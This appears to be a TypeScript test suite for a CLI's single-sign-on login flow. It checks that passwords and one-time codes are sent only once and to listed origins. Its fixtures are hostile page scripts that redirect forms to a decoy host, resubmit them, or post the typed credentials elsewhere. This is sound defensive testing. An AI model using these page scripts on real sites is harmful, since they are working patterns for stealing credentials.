import type { StandIn } from '../../stand-in/stand-in.ts';
import { startDecoy } from '../faults/fault-proxy.ts';
import { expect, test } from '../fixtures.ts';
import {
  ASSERT,
  ask,
  DONE,
  redirect,
  type StrangeProvider,
  serveProvider,
  withBody,
} from './serve-provider.ts';

// Forms that show nothing of what was typed into them, and pages that send it along with something else.

test.use({ sharesBrowser: true });

const WORDS = ['--timeout', '60s'];
const AGAIN = 'form.onsubmit = () => { setTimeout(() => form.submit(), 300); };';
const NOT_ASCII = { OCTOPUS_PASSWORD: 'Zażółć-gęślą-jaźń-fake' };
const BOXES = `<!doctype html><h1>Two-factor authentication</h1><p>Enter the code of your authenticator app.</p>
  <form method="post" action="/take">${[1, 2, 3, 4, 5, 6].map((at) => `<input name="c${at}" maxlength="1" size="2" aria-label="Digit ${at} of the code">`).join('')}
  <button>Verify</button></form><script>const [form] = document.forms;`;

const REVERSE = "input.value = [...input.value].reverse().join('');";

/** Sends it by script, to where nobody takes it, and then by its form. */
const sendFirst = (value: string, change: string) => `form.onsubmit = async (event) => {
  event.preventDefault();
  await fetch('/nowhere', { method: 'POST', body: ${value} });
  ${change}
  form.submit();
};`;

interface Row {
  readonly page: (decoy: string) => string;
  readonly env?: Readonly<Record<string, string>>;
  /** What a form is called that brings it. */
  readonly isExtended?: true;
}

const rows: Readonly<Record<string, Row>> = {
  'a code in six boxes': { page: () => `${BOXES}${AGAIN}</script>` },
  'a code in six boxes, whose page has changed its address meanwhile': {
    page: () =>
      `${BOXES}${AGAIN.replace('form.submit()', "{ history.pushState(0, '', '/other'); form.submit(); }")}</script>`,
    isExtended: true,
  },
  'a code in six boxes, which a changed form takes elsewhere': {
    page: (decoy) =>
      `${BOXES}${AGAIN.replace('form.submit()', `{ form.action = '${decoy}/took'; form.submit(); }`)}</script>`,
    isExtended: true,
  },
  'a code that the page writes in groups': {
    page: () =>
      ask(
        'one-time code',
        `input.oninput = () => { if (/^\\d{6}$/.test(input.value)) input.value = input.value.slice(0, 3) + ' ' + input.value.slice(3); };${AGAIN}`,
      ),
    isExtended: true,
  },
  'a password in another charset': {
    page: () => ask('password', AGAIN, 'method="post" action="/take" accept-charset="iso-8859-2"'),
    env: NOT_ASCII,
    isExtended: true,
  },
  'a code in another shape': {
    page: () => ask('one-time code', `form.addEventListener('submit', () => { ${REVERSE} });${AGAIN}`),
    isExtended: true,
  },
  'a code that a script has sent, and that a form takes elsewhere in another shape': {
    page: (decoy) =>
      ask('one-time code', sendFirst('input.value', `${REVERSE} form.action = '${decoy}/took';`)),
  },
  'a code that a script has sent, and that a form has in boxes': {
    page: () => `${BOXES}${sendFirst("[...new FormData(form).values()].join('')", '')}</script>`,
    isExtended: true,
  },
  'a code in boxes, into another frame': {
    page: () =>
      `${BOXES.replace('<form', '<form target="other"')}${AGAIN}</script><iframe name="other" hidden></iframe>`,
    isExtended: true,
  },
  'a password in another charset, into another frame': {
    page: () =>
      `${ask('password', AGAIN, 'method="post" action="/take" accept-charset="iso-8859-2" target="other"')}<iframe name="other" hidden></iframe>`,
    env: NOT_ASCII,
  },
  'a password in another charset and in parts, into another frame': {
    page: () =>
      `${ask('password', AGAIN, 'method="post" action="/take" accept-charset="iso-8859-2" enctype="multipart/form-data" target="other"')}<iframe name="other" hidden></iframe>`,
    env: NOT_ASCII,
    isExtended: true,
  },
  'a password in plain text': {
    page: () => ask('password', AGAIN, 'method="post" action="/take" enctype="text/plain"'),
    env: NOT_ASCII,
    isExtended: true,
  },
};

for (const [what, { page, env, isExtended }] of Object.entries(rows))
  test(`${what} leaves once, though its form is sent again, and follows no redirect: exit 4`, {
    tag: isExtended ? '@extended' : [],
  }, async ({ startServer, runCommand }) => {
    const server = await startServer();
    await using decoy = await startDecoy();
    let taken = 0;
    await using provider = await serveProvider(server, {
      '/': page(decoy.url),
      '/take': (incoming, outgoing) => {
        taken += 1;
        if (taken > 1) return redirect(307, `${decoy.url}/took`)(incoming, outgoing);
        outgoing.writeHead(204).end();
      },
    });
    const { code, stderr } = await runCommand('mint-key', { env: { ...provider.env, ...env }, words: WORDS });

    expect(decoy.heard, stderr).toEqual([]);
    expect(withBody(provider.heard), stderr).toHaveLength(1);
    expect(code, stderr).toBe(4);
    expect(stderr).not.toContain('nothing was typed there');
  });

test('a password in another charset does not leave into another frame by a page that keeps to itself whose its form is: exit 4', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  const server = await startServer();
  const form = 'method="post" action="/take" accept-charset="iso-8859-2" target="other"';
  const page = `<meta name="referrer" content="no-referrer"><iframe name="other" hidden></iframe>${ask('password', '', form)}`;
  await using provider = await serveProvider(server, { '/': page, '/take': 'taken' });
  const env = { ...provider.env, ...NOT_ASCII };
  const { code, stderr } = await runCommand('mint-key', { env, words: WORDS });

  expect(withBody(provider.heard), stderr).toEqual([]);
  expect(code, stderr).toBe(4);
});

test('a user name in another shape leaves by a form for no origin that is not listed', async ({
  startServer,
  runCommand,
}) => {
  const server = await startServer();
  await using decoy = await startDecoy();
  const script = `form.addEventListener('submit', () => { ${REVERSE} form.action = '${decoy.url}/took'; });`;
  await using provider = await serveProvider(server, { '/': ask('user name', script) });
  const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });

  expect(decoy.heard, stderr).toEqual([]);
  expect(withBody(provider.heard)).toEqual([]);
  expect(code, stderr).toBe(4);
});

test('a code that a script has asked about is taken along by its form once more, in whatever shape, and no third time', async ({
  startServer,
  runCommand,
}) => {
  const server = await startServer();
  const script = `form.onsubmit = async (event) => {
    event.preventDefault();
    await fetch('/asked', { method: 'POST', body: input.value });
    ${REVERSE}
    form.submit();
    setTimeout(() => form.submit(), 500);
  };`;
  await using provider = await serveProvider(server, {
    '/': ask('one-time code', script),
    '/asked': 'right',
    '/take': (_, outgoing) => void outgoing.writeHead(204).end(),
  });
  const { stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });

  expect(
    withBody(provider.heard).map((line) => line.split(' ')[1]),
    stderr,
  ).toEqual(['/asked', '/take']);
});

const askedFirst = (change: string): string => `form.onsubmit = async (event) => {
  event.preventDefault();
  await fetch('/asked', { method: 'POST', body: input.value });
  ${change}
  form.submit();
};`;

test('a code that a script has asked about is taken to no other origin, though that is listed, too', async ({
  startServer,
  runCommand,
}) => {
  const server = await startServer();
  await using other = await startDecoy();
  const page = ask('one-time code', askedFirst(`form.action = '${other.url}/took';`));
  await using provider = await serveProvider(server, { '/': page, '/asked': 'right' });
  const env = { ...provider.env, OCTOPUS_SSO_ORIGINS: `${provider.url},${other.url}` };
  const { stderr } = await runCommand('mint-key', { env, words: WORDS });

  expect(other.heard, stderr).toEqual([]);
  expect(withBody(provider.heard), stderr).toHaveLength(1);
});

test('a password that a script has asked about is not taken along by its form', { tag: '@extended' }, async ({
  startServer,
  runCommand,
}) => {
  const server = await startServer();
  const page = ask('password', askedFirst(''));
  await using provider = await serveProvider(server, { '/': page, '/asked': 'right', '/take': 'taken' });
  const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });

  expect(withBody(provider.heard), stderr).toHaveLength(1);
  expect(code, stderr).toBe(4);
  expect(stderr).toContain('its page was about to send it again, and was stopped');
});

test('the page right behind a code may send itself on, also in the same document that has asked for it: the key is made', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  const server = await startServer();
  const inPlace = `form.onsubmit = async (event) => {
    event.preventDefault();
    await fetch('/take', { method: 'POST', body: new URLSearchParams(new FormData(form)) });
    const next = document.createElement('form');
    next.method = 'post';
    next.action = '/end';
    next.innerHTML = '<input name="state" value="abcdef1234567890abcdef1234567890">';
    document.body.append(next);
    next.submit();
  };`;
  for (const [page, taken] of [
    [`${BOXES}</script>`, redirect(303, ASSERT)],
    [ask('one-time code', inPlace), 'taken'],
    [ask('password', inPlace), 'taken'],
  ] as const) {
    await using provider = await serveProvider(server, {
      '/': page,
      '/take': taken,
      '/end': redirect(303, DONE),
    });
    const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });
    expect(code, stderr).toBe(0);
  }
});

test('a password that is not all ASCII may be asked about by a script, and its page then send the portal a form: the key is made', async ({
  startServer,
  runCommand,
}) => {
  const server = await startServer();
  const script = `form.onsubmit = async (event) => {
    event.preventDefault();
    await fetch('/asked', { method: 'POST', body: input.value });
    document.body.innerHTML = await (await fetch('${ASSERT}')).text();
    document.forms[0].submit();
  };`;
  await using provider = await serveProvider(server, { '/': ask('password', script), '/asked': 'right' });
  const env = { ...provider.env, ...NOT_ASCII };
  const { code, stderr } = await runCommand('mint-key', { env, words: WORDS });

  expect(code, stderr).toBe(0);
});

/** A page that asks for the password first, and then, in the same document, for the user name. */
const inOneDocument = (
  send: string,
): string => `<!doctype html><title>Password</title><h1>Give your password</h1>
  <form method="post"><input type="password" name="password"><button>Next</button></form><script>
    let password = '';
    document.forms[0].onsubmit = async (event) => {
      event.preventDefault();
      password = event.target.password.value;
      await fetch('/password', { method: 'POST', body: password });
      document.body.innerHTML = '<h1>Sign in</h1><form method="post" action="/take"><label>Username <input name="username" autocomplete="username"></label><button>Next</button></form>';
      document.forms[0].onsubmit = async (event) => {
        event.preventDefault();
        const username = event.target.username.value;
        ${send}
      };
    };
  </script>`;

test('a password leaves once, though it is sent along with the user name later', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  const server = await startServer();
  const send = `for (const _ of 'abc') await fetch('/again', { method: 'POST', body: JSON.stringify({ username, password }) }).catch(() => {});
    location = '${DONE}';`;
  await using provider = await serveProvider(server, {
    '/': inOneDocument(send),
    '/password': 'taken',
    '/again': 'taken',
  });
  const { stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });

  const told = withBody(provider.heard).filter((line) => line.includes(provider.env.OCTOPUS_PASSWORD ?? ''));
  expect(told, stderr).toHaveLength(1);
  expect(stderr).toContain('asks for user name');
});

/**
 * Two listed origins of one provider: the first has had the password when the second is come to.
 * @param before draws what the second shows before that
 */
async function serveTwo(
  server: StandIn,
  draw: (first: string) => string,
  before?: (first: string) => string,
) {
  const second: StrangeProvider = await serveProvider(server, {
    '/': (_, outgoing) => outgoing.end(draw(first.url)),
    '/before': (_, outgoing) => outgoing.end(before?.(first.url)),
  });
  const first: StrangeProvider = await serveProvider(server, {
    '/': before ? redirect(303, `${second.url}/before`) : ask('password'),
    '/form': ask('password'),
    '/take': redirect(303, `${second.url}/`),
    '/again': 'taken',
  });
  return {
    ...{ first, second },
    env: { ...first.env, OCTOPUS_SSO_ORIGINS: `${first.url},${second.url}` },
    [Symbol.asyncDispose]: async () => {
      await Promise.all([first, second].map((each) => each[Symbol.asyncDispose]()));
    },
  };
}

/** A page that asks for the password, keeps it, and asks for a code in the same document, with which it sends both. */
const inTwoSteps = (
  send: string,
): string => `<!doctype html><meta charset="utf-8"><title>Password</title><h1>Give your password</h1>
  <form method="post"><input type="password" name="password"><button>Next</button></form><script>
    document.forms[0].onsubmit = async (event) => {
      event.preventDefault();
      const password = event.target.password.value;
      ${send}
      document.body.innerHTML = '<h1>Two-factor authentication</h1><p>Enter the code of your authenticator app.</p><form method="post"><input name="code" autocomplete="one-time-code"><button>Verify</button></form>';
      document.forms[0].onsubmit = async (event) => {
        event.preventDefault();
        const body = new URLSearchParams({ password, code: event.target.code.value });
        await fetch(THERE, { method: 'POST', body }).catch(() => {});
      };
    };
  </script>`;

for (const [what, when, script] of [
  ['password', '', 'setTimeout(() => location.reload(), 700)'],
  ['password', ' at once', 'location.reload()'],
  ['one-time code', '', 'setTimeout(() => location.reload(), 700)'],
] as const)
  test(`a page that is the reply to the ${what} and loads itself anew${when} does not send it again: exit 4`, {
    tag: what === 'password' ? [] : '@extended',
  }, async ({ startServer, runCommand }) => {
    const server = await startServer();
    await using provider = await serveProvider(server, {
      '/': ask(what),
      '/take': `<h1>Just a moment</h1><script>${script};</script>`,
    });
    const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });

    expect(withBody(provider.heard), stderr).toHaveLength(1);
    expect(code, stderr).toBe(4);
    expect(stderr).toContain(
      `the ${what} got no reply (its page was about to send it again, and was stopped)`,
    );
  });

const later: Readonly<Record<string, string>> = {
  'a page behind it, once a code is typed there': ask(
    'one-time code',
    'input.oninput = () => history.back();',
  ),
  'a page behind it, once a user name is typed there': ask(
    'user name',
    'input.oninput = () => history.back();',
  ),
  'a page behind it, by itself':
    '<h1>Just a moment</h1><script>setTimeout(() => history.back(), 700);</script>',
};

for (const [which, page] of Object.entries(later))
  test(`a page that is the reply to the password is not gone back to by ${which}, which would send it again: exit 4`, {
    tag: which.includes('code') ? [] : '@extended',
  }, async ({ startServer, runCommand }) => {
    const server = await startServer();
    await using provider = await serveProvider(server, {
      '/': ask('password'),
      '/take': `<h1>Just a moment</h1><script>setTimeout(() => { location = '/later'; }, 700);</script>`,
      '/later': page,
    });
    const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });

    expect(
      provider.heard.filter((line) => line.startsWith('POST /take password')),
      stderr,
    ).toHaveLength(1);
    expect(code, stderr).toBe(4);
    expect(stderr).toContain('the password got no reply (its page was about to send it again');
  });

test('a listed origin that has had the password is not sent it again by the page of another: exit 4', async ({
  startServer,
  runCommand,
}) => {
  await using two = await serveTwo(await startServer(), (first) =>
    ask('password', `form.onsubmit = () => { form.action = '${first}/again'; };`),
  );
  const { code, stderr } = await runCommand('mint-key', { env: two.env, words: WORDS });

  expect(withBody(two.first.heard), stderr).toHaveLength(1);
  expect(code, stderr).toBe(4);
  expect(stderr).toContain(two.first.url);
});

test('nor is it by one that was typed into before the other had it, and left for that: exit 4', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  const server = await startServer();
  await using two = await serveTwo(
    server,
    (first) => ask('password', `form.onsubmit = () => { form.action = '${first}/again'; };`),
    (first) => ask('password', `input.oninput = () => { input.value = ''; location = '${first}/form'; };`),
  );
  const { code, stderr } = await runCommand('mint-key', { env: two.env, words: WORDS });

  expect(withBody(two.first.heard), stderr).toHaveLength(1);
  expect(withBody(two.second.heard), stderr).toHaveLength(0);
  expect(code, stderr).toBe(4);
  expect(stderr).toContain(`${two.first.url}, which was sent it before, and was stopped`);
});

test('nor is it along with a code, which that origin may have: exit 4', { tag: '@extended' }, async ({
  startServer,
  runCommand,
}) => {
  await using two = await serveTwo(await startServer(), (first) =>
    inTwoSteps('').replace('THERE', `'${first}/again'`),
  );
  const { code, stderr } = await runCommand('mint-key', { env: two.env, words: WORDS });

  expect(withBody(two.first.heard), stderr).toHaveLength(1);
  expect(stderr).toContain('asks for one-time code');
  expect(code, stderr).toBe(4);
});

test('a password that was sent is taken along with a code to no other origin, though that is listed, too: exit 4', async ({
  startServer,
  runCommand,
}) => {
  const server = await startServer();
  await using other = await startDecoy();
  const page = inTwoSteps("await fetch('/take', { method: 'POST', body: password });");
  await using provider = await serveProvider(server, {
    '/': page.replace('THERE', `'${other.url}/took'`),
    '/take': 'taken',
  });
  const env = { ...provider.env, OCTOPUS_SSO_ORIGINS: `${provider.url},${other.url}` };
  const { code, stderr } = await runCommand('mint-key', { env, words: WORDS });

  expect(other.heard, stderr).toEqual([]);
  expect(stderr).toContain('asks for one-time code');
  expect(code, stderr).toBe(4);
  expect(stderr).toContain('it held the password again, and was stopped');
});
